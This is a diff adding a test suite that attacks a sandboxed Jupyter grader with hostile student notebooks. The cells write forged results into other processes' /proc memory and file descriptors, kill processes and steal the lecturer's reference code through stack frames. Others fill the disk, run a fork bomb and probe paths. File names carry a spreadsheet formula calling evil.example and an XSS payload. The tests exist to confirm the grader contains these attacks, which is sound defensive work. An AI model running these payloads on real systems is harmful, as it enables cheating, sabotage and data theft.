@@ -1,0 +1,395 @@
+"""Attacks on the grader by its students, each a fabricated notebook with its expected points.
+
+Every notebook here is the tiny sheet's solution (``tests/data/grading/sheets/01_tiny.md``:
+area 2 + hidden 1, square 3, evens 1 = 7 points) with one hostile cell, graded in the
+bubblewrap sandbox as root and, where the machine allows, by an ordinary user (``nobody``,
+started with ``setpriv``; bubblewrap then uses a user namespace). Most attacks are written so
+that they *change an answer when they succeed*: the notebook keeps its full marks only if
+the attack failed, and loses exactly the points of the answer it spoiled otherwise (or wins
+points it should not have). The expected totals are the sheet's points added by hand.
+
+The class of attacks follows a red-team report on the grader: a function answer that reads
+or writes the memory, pipes or files of the checks' process; forged result lines; formula
+injection through file names and messages; symbolic links to the solution; filling the
+disk; fork bombs; deeply nested data; reconnaissance of the lecturer's paths.
+"""
+from __future__ import annotations
+
+import csv
+import os
+import shutil
+import subprocess
+import sys
+import tempfile
+from pathlib import Path
+
+import grade
+import make_exercises
+import nbformat
+import pytest
+from _grading import sandbox
+from _notebooks import ROOT
+
+SHEETS = ROOT / "tests" / "data" / "grading" / "sheets"
+TINY = SHEETS / "01_tiny.md"
+FULL, AREA, SQUARE, EVENS = 7, 2 + 1, 3, 1
+LIMITS = sandbox.Limits(timeout=30, memory_mb=1024, grace=3)
+FORMULA = ("=", "+", "-", "@", "\t", "\r")
+
+pytestmark = pytest.mark.skipif(sandbox.bwrap_problem() is not None,
+                                reason=f"no bubblewrap sandbox here: {sandbox.bwrap_problem()}")
+
+# A function answer that attacks whoever calls it, then returns a wrong value (2x). Whatever
+# it finds of the grader (the lecturer's checks, the checks' frames, their process) it raises
+# as its error, which the check would show: "LOOT" must never reach a CSV or a page.
+FORGED = ('{"results": [' + ", ".join(['{"passed": true, "message": "=2+3"}'] * 4) + ']}'
+          '\\n{"value": {"t": "int", "v": "4"}, "id": 1}\\n')
+ATTACK_FUNCTION = f'''
+def square(x):
+    import glob, os, signal, sys
+    forged = b'{FORGED}'
+    loot = []
+    for name in ("_grading", "_grading.reference", "run_checks"):
+        try:
+            __import__(name)
+            loot.append("imported " + name)
+        except Exception:
+            pass
+    for pattern in ("/opt/lecturer/**/*.py", "/opt/*/reference/*.py", "/opt/*/_grading/*.py",
+                    "/opt/*/*/reference/*.py", "/home/*/*.py", "/tmp/*/*.py"):
+        for path in glob.glob(pattern, recursive=True)[:50]:
+            try:
+                loot.append(open(path).read()[:100])
+            except Exception:
+                pass
+    frame = sys._getframe(1)
+    while frame is not None:
+        names = set(frame.f_globals) | set(frame.f_locals)
+        loot += ["frame " + n for n in ("results", "job", "use_references", "grade_job")
+                 if n in names]
+        frame = frame.f_back
+    for pid in [p for p in os.listdir("/proc") if p.isdigit() and int(p) != os.getpid()]:
+        try:
+            command = open(f"/proc/{{pid}}/cmdline", "rb").read()
+        except OSError:
+            continue
+        if b"run_checks" in command or b"grade.py" in command or b"pytest" in command:
+            loot.append("process " + command.decode(errors="replace")[:80])
+        for what in ("mem", "fd/0", "fd/1", "fd/3"):
+            try:
+                with open(f"/proc/{{pid}}/{{what}}", "r+b") as target:
+                    target.write(forged)
+            except OSError:
+                pass
+        try:
+            os.kill(int(pid), signal.SIGKILL)
+        except OSError:
+            pass
+    for fd in range(3, 64):
+        try:
+            os.write(fd, forged)
+        except OSError:
+            pass
+    if loot:
+        raise RuntimeError("LOOT " + " | ".join(loot))
+    return 2 * x
+'''
+
+# cells added to the solution: each keeps the right answers only if the attack fails
+FORGER = f'''
+import os
+for fd in range(0, 64):
+    try:
+        os.write(fd, b'{FORGED}' + b'{{"report": {{"errors": [[1, "=HYPERLINK(1)"]]}}}}\\n')
+    except OSError:
+        pass
+evens = []
+'''
+DEEP = '''
+import os
+deep = b'{"answers": {"0": ' + b"[" * 300_000 + b"]" * 300_000 + b"}}\\n"
+for fd in range(3, 64):
+    try:
+        os.write(fd, deep)
+    except OSError:
+        pass
+'''
+DISK = '''
+import math, os
+written, block = 0, b"x" * 2**24
+for folder in (os.getcwd(), "/tmp"):
+    for k in range(64):                  # up to 1 GiB in each
+        try:
+            with open(os.path.join(folder, f"fill{k}"), "wb") as f:
+                for _ in range(4):
+                    f.write(block)
+                    f.flush()
+                    written += len(block)
+        except OSError:
+            break
+area = math.pi if written <= 2 * 300 * 2**20 else 0.0
+'''
+FORKS = '''
+import math, os, time
+children = []
+for _ in range(300):
+    try:
+        pid = os.fork()
+    except OSError:
+        break
+    if pid == 0:
+        time.sleep(60)
+        os._exit(0)
+    children.append(pid)
+area = math.pi if len(children) < 100 else 0.0
+'''
+RECON = f'''
+import math, os, sys
+secrets = [{str(ROOT)!r}, {os.path.realpath(sys.prefix)!r}, {os.path.realpath(sys.base_prefix)!r},
+           {os.path.expanduser("~")!r}]
+seen = []
+texts = [sys.prefix, sys.base_prefix, sys.executable, " ".join(sys.path), str(dict(os.environ))]
+for pid in [p for p in os.listdir("/proc") if p.isdigit()]:
+    for what in ("cmdline", "environ"):
+        try:
+            texts.append(open(f"/proc/{{pid}}/{{what}}", "rb").read().decode(errors="replace"))
+        except OSError:
+            pass
+for text in texts:
+    seen += [s for s in secrets if s and s in text]
+seen += [p for p in ("/opt/lecturer", {str(ROOT)!r}) if os.path.exists(p)]
+area = math.pi if not seen else 0.0
+'''
+ATTACKS = {"function_attack": (ATTACK_FUNCTION, FULL - SQUARE),
+           "forger": (FORGER, FULL - EVENS), "deep_json": (DEEP, FULL),
+           "disk_fill": (DISK, FULL), "fork_bomb": (FORKS, FULL), "recon": (RECON, FULL)}
+HOSTILE_NAMES = ["=2+3", '=WEBSERVICE("http:"&CHAR(47)&"evil.example"&A1)', "@SUM(9+9)",
+                 "+1", "-1", "\tTAB", "<img src=x onerror=alert(1)>"]
+
+
+def _read_csv(path: Path) -> list[dict]:
+    with path.open(encoding="utf-8", newline="") as f:
+        return list(csv.DictReader(f))
+
+
+def _totals(folder: Path) -> dict[str, float]:
+    return {r["student"]: float(r["total"]) for r in _read_csv(folder / "summary.csv")}
+
+
+def _with_cell(nb, marker: str, source: str):
+    nb = nbformat.from_dict(nb)
+    i = max(k for k, c in enumerate(nb.cells) if marker in c.source)
+    nb.cells.insert(i + 1, nbformat.v4.new_code_cell(source))
+    return nb
+
+
+def _write_class(folder: Path) -> dict[str, float]:
+    """The hostile class in ``folder``; returns the expected totals by student name."""
+    generated = make_exercises.generate(folder.parent / "gen", [TINY])
+    solution_path = generated[0][0]
+    solution = nbformat.read(solution_path, as_version=4)
+    expected = {}
+    for name, (cell, points) in ATTACKS.items():
+        marker = "return x * x" if name == "function_attack" else "evens = list"
+        nbformat.write(_with_cell(solution, marker, cell), folder / f"{name}.ipynb")
+        expected[name] = points
+    for name in HOSTILE_NAMES:
+        nbformat.write(solution, folder / f"{name}.ipynb")
+        expected["'" + name if name.startswith(FORMULA) else name] = FULL
+    os.symlink(solution_path, folder / "mallory_link.ipynb")
+    (folder / "folder.ipynb").mkdir()
+    os.mkfifo(folder / "fifo.ipynb")
+    (folder / "nested.ipynb").write_text("[" * 200_000 + "]" * 200_000)
+    expected.update({"mallory_link": 0, "folder": 0, "fifo": 0, "nested": 0})
+    return expected
+
+
+def _check_outputs(folder: Path, expected: dict[str, float]) -> None:
+    assert _totals(folder) == expected
+    rows = _read_csv(folder / "grades.csv")
+    for path in (folder / "grades.csv", folder / "summary.csv"):
+        with path.open(encoding="utf-8", newline="") as f:
+            cells = [c for row in csv.reader(f) for c in row]
+        assert not [c for c in cells if c.startswith(FORMULA)], path.name
+    skipped = {r["student"]: r["message"] for r in rows if r["check"] == "submission"}
+    assert "symbolic link" in skipped["mallory_link"]
+    assert "folder" in skipped["folder"] and "not a regular file" in skipped["fifo"]
+    assert "not a Jupyter notebook" in skipped["nested"]
+    everything = "".join(p.read_text(encoding="utf-8") for p in
+                         [folder / "grades.csv", folder / "report.html",
+                          *(folder / "feedback").iterdir()])
+    assert "LOOT" not in everything and "HYPERLINK" not in everything
+    pages = "".join(p.read_text(encoding="utf-8") for p in
+                    [folder / "report.html", *(folder / "feedback").iterdir()])
+    assert "<img src=x" not in pages  # the name is escaped in every page
+    notes = {name: (folder / "feedback" / f"{name}.html").read_text(encoding="utf-8")
+             for name in ("disk_fill", "fork_bomb")}
+    assert "filled its private disk" in notes["disk_fill"]
+    assert "limit of 64 processes" in notes["fork_bomb"]
+    square = [r for r in rows if r["student"] == "function_attack" and r["passed"] == "no"]
+    assert [r["exercise"] for r in square] == ["tiny-ex-square"]
+
+
+def test_hostile_class_as_root(tmp_path):
+    folder = tmp_path / "class"
+    folder.mkdir()
+    expected = _write_class(folder)
+    grade.grade(folder, sheet_path=TINY, sheets_dir=SHEETS, limits=LIMITS)
+    _check_outputs(folder, expected)
+
+
+def _as_nobody(*cmd: str) -> list[str]:
+    return [shutil.which("setpriv"), "--reuid=65534", "--regid=65534", "--clear-groups",
+            "--inh-caps=-all", *cmd]
+
+
+def _python_for_nobody(top: Path) -> str:
+    """A Python that ``nobody`` can run, with this environment's packages.
+
+    When the installation is in a folder ``nobody`` cannot enter (``/root/.pyenv``), it is
+    hard-linked (no copy of the data) into ``top`` and a virtual environment made there
+    that reads the packages of this one. Raises OSError when that is impossible.
+    """
+    base, version = Path(os.path.realpath(sys.base_prefix)), f"python{sys.version_info[0]}." \
+        f"{sys.version_info[1]}"
+    probe = subprocess.run(_as_nobody(sys.executable, "-c", f"import os, numpy; os.listdir("
+                                      f"{str(base)!r})"), capture_output=True)
+    if probe.returncode == 0:
+        return sys.executable
+    python = top / "python"
+    shutil.copytree(base, python, copy_function=os.link, symlinks=True,
+                    ignore=shutil.ignore_patterns("site-packages", "__pycache__", "test"))
+    venv = top / "venv"
+    (venv / "bin").mkdir(parents=True)
+    (venv / "lib" / version).mkdir(parents=True)
+    real = os.path.realpath(sys.executable)
+    os.symlink(str(python) + real[len(str(base)):], venv / "bin" / "python3")
+    (venv / "pyvenv.cfg").write_text(f"home = {python}/bin\ninclude-system-site-packages = "
+                                     "false\n")
+    site = [p for p in sys.path if p.endswith("site-packages") and p.startswith(sys.prefix)][0]
+    os.symlink(site, venv / "lib" / version / "site-packages")
+    return str(venv / "bin" / "python3")
+
+
+def _ordinary_user_problem() -> str | None:
+    if os.geteuid() != 0:
+        return "already an ordinary user: the tests above covered this mode"
+    if shutil.which("setpriv") is None:
+        return "setpriv is missing"
+    probe = subprocess.run(_as_nobody(shutil.which("bwrap"), "--ro-bind", "/", "/",
+                                      "--unshare-user", "true"), capture_output=True)
+    return None if probe.returncode == 0 else "no unprivileged user namespaces here"
+
+
+@pytest.mark.skipif(_ordinary_user_problem() is not None,
+                    reason=f"cannot grade as an ordinary user: {_ordinary_user_problem()}")
+def test_hostile_class_as_an_ordinary_user():
+    """The same class graded by ``nobody`` (bubblewrap with a user namespace)."""
+    top = Path(tempfile.mkdtemp(prefix="kmgrade-user-test-"))
+    try:
+        os.chmod(top, 0o755)
+        folder = top / "class"
+        folder.mkdir()
+        expected = _write_class(folder)
+        for path in (top, *top.rglob("*")):
+            os.lchown(path, 65534, 65534)
+        try:
+            python = _python_for_nobody(top)
+        except OSError as exc:
+            pytest.skip(f"no Python that an ordinary user can run here ({exc})")
+        env = {"PATH": os.environ.get("PATH", "/usr/bin:/bin"), "HOME": str(top),
+               "MPLCONFIGDIR": str(top / ".mpl"), "TMPDIR": str(top), "LANG": "C.UTF-8"}
+        done = subprocess.run(_as_nobody(python, str(ROOT / "scripts" / "grade.py"),
+                                         str(folder), "--sheet", str(TINY), "--sheets-dir",
+                                         str(SHEETS), "--timeout", str(LIMITS.timeout),
+                                         "--memory-mb", str(LIMITS.memory_mb)),
+                              env=env, cwd=top, capture_output=True, text=True, timeout=900)
+        assert done.returncode == 0, done.stderr[-2000:]
+        _check_outputs(folder, expected)
+    finally:
+        shutil.rmtree(top, ignore_errors=True)
+
+
+def test_a_function_answer_cannot_reach_the_reference(tmp_path):
+    """Sheet 4 (six checks of 1 point): ``matern32``/``matern52`` look for the lecturer's
+    Matérn function (importing ``_grading.reference.ch04``, walking the callers' frames) and
+    return it if found, else a wrong kernel: only ``check_matern`` fails, 5 of 6."""
+    sheet = ROOT / "exercises" / "04_kernels.md"
+    (sol_path, _), = make_exercises.generate(tmp_path / "gen", [sheet])
+    solution = nbformat.read(sol_path, as_version=4)
+    thief = '''
+def _steal(r, nu, ell):
+    import sys
+    try:
+        from _grading.reference import ch04 as ref
+        return ref._matern_bessel(r, nu, ell)
+    except Exception:
+        pass
+    frame = sys._getframe(1)
+    while frame is not None:
+        for space in (frame.f_locals, frame.f_globals):
+            for value in list(space.values()):
+                if callable(value) and "bessel" in getattr(value, "__name__", ""):
+                    return value(r, nu, ell)
+        frame = frame.f_back
+    import numpy
+    return numpy.exp(-numpy.asarray(r, dtype=float) / ell)
+
+def matern32(r, ell):
+    return _steal(r, 1.5, ell)
+
+def matern52(r, ell):
+    return _steal(r, 2.5, ell)
+'''
+    nb = _with_cell(solution, "min_eig_52 = np.linalg.eigvalsh", thief)
+    folder = tmp_path / "class"
+    folder.mkdir()
+    nbformat.write(nb, folder / "thief.ipynb")
+    grade.grade(folder, limits=sandbox.Limits(timeout=120, memory_mb=2048, grace=5))
+    rows = _read_csv(folder / "grades.csv")
+    assert [r["check"] for r in rows if r["passed"] == "no"] == ["check_matern"]
+    assert _totals(folder) == {"thief": 5}
+
+
+def test_the_grader_reads_untrusted_json_safely():
+    """A size and depth check before parsing: 300,000 nested brackets raise DataError, not a
+    RecursionError that would end the grader; ordinary answers pass."""
+    from _grading import codec
+
+    with pytest.raises(codec.DataError):
+        codec.loads("[" * 300_000 + "]" * 300_000)
+    with pytest.raises(codec.DataError):
+        codec.loads('"' + "x" * 100 + '"', max_bytes=50)
+    assert codec.loads('{"a": "[[[[", "b": [[1]]}') == {"a": "[[[[", "b": [[1]]}
+    assert codec.json_depth('{"a": "[[[[", "b": [[1]]}') == 3
+    assert codec.json_depth(r'{"a": "[[\"[[", "b": "x\\", "c": [[1]]}') == 3
+
+
+def test_csv_cells_are_escaped_and_results_only_in_the_expected_form():
+    """The OWASP rule, and the grader's acceptance of the checks' results."""
+    from _grading import report
+
+    assert [report.cell(x) for x in ("=1+2", "+1", "-1", "@A1", "\tx", "\rx", "alice", "")] == [
+        "'=1+2", "'+1", "'-1", "'@A1", "'\tx", "'\rx", "alice", ""]
+    good = [{"passed": True, "message": "Correct: " + "x" * 500}]
+    assert sandbox.accepted(good, 1)[0]["message"] == ("Correct: " + "x" * 500)[:300]
+    for bad in (None, [], [{"passed": "yes", "message": "m"}], [{"passed": True}],
+                [{"passed": True, "message": "m"}] * 2, "fatal"):
+        out = sandbox.accepted(bad, 1)
+        assert out[0]["passed"] is False and "could not run" in out[0]["message"]
+
+
+def test_the_checks_process_is_not_dumpable():
+    """``run_checks.not_dumpable`` (called first in the checks' process): afterwards
+    ``prctl(PR_GET_DUMPABLE)`` is 0, so no process of the same user may read its memory
+    through ``/proc/<pid>/mem`` or attach to it."""
+    code = ("import ctypes, sys\n"
+            f"sys.path.insert(0, {str(ROOT / 'scripts' / '_grading')!r})\n"
+            "import run_checks\n"
+            "libc = ctypes.CDLL(None)\n"
+            "before = libc.prctl(3, 0, 0, 0, 0)\n"
+            "run_checks.not_dumpable()\n"
+            "print(before, libc.prctl(3, 0, 0, 0, 0))\n")
+    done = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True,
+                          timeout=120)
+    assert done.stdout.split() == ["1", "0"], done.stderr
